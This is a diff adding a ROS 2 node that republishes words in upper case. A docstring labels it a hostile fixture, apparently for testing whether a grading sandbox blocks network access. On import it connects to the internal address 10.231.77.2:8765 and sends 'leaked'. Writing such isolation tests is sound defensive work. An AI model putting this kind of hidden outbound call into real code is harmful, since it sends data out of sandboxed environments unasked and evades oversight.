@@ -1,0 +1,40 @@
+"""Hostile: tries to reach a host outside the grading run (the test's own target)."""
+import socket
+
+try:
+    with socket.create_connection(("10.231.77.2", 8765), timeout=2) as sock:
+        sock.sendall(b"leaked\n")
+        print("NETWORK: reached", flush=True)
+except OSError as exc:
+    print("NETWORK: blocked:", exc, flush=True)
+
+import rclpy
+from rclpy.executors import ExternalShutdownException
+from rclpy.node import Node
+from std_msgs.msg import String
+
+
+class Shouter(Node):
+    def __init__(self):
+        super().__init__('shouter')
+        self.pub = self.create_publisher(String, 'shout', 10)
+        self.create_subscription(String, 'words', self.on_words, 10)
+
+    def on_words(self, msg):
+        self.pub.publish(String(data=msg.data.upper()))
+
+
+def main(args=None):
+    rclpy.init(args=args)
+    node = Shouter()
+    try:
+        rclpy.spin(node)
+    except (KeyboardInterrupt, ExternalShutdownException):
+        pass
+    finally:
+        node.destroy_node()
+        rclpy.try_shutdown()
+
+
+if __name__ == '__main__':
+    main()
